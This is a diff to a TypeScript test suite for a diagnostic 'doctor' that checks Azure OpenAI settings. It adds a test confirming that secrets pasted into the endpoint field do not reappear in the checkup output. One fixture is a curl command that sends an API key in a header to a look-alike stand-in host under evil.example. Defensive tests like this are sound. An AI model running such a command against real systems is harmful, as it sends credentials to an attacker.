@@ -192,6 +192,18 @@ describe("the doctor names what stands in the way", () => {
     });
   });
 
+  it("does not repeat what was pasted in an endpoint's place: it may hold a key", async () => {
+    for (const pasted of [
+      "AZURE_OPENAI_API_KEY=very-secret-value\nAZURE_OPENAI_ENDPOINT=htp:/misspelt",
+      'curl https://r.openai.azure.com.evil.example -H "api-key: very-secret-value"',
+      'curl https://r.openai.azure.com/openai?api-key=very-secret-value -H "api-key: very-secret-value"',
+    ]) {
+      const network = { addressesOf: async () => ["192.0.2.1"], fetch: async () => new Response(null) };
+      const { checkup } = await examined(examination(pasted, key("very-secret-value"), { network }));
+      expect(JSON.stringify(checkup)).not.toContain("very-secret-value");
+    }
+  });
+
   it("nothing deployed, and nothing that can chat", async () => {
     const answer = (data: object[]) => async (url: string) =>
       url.includes("/openai/deployments?") ? Response.json({ data }) : new Response("{}", { status: 404 });
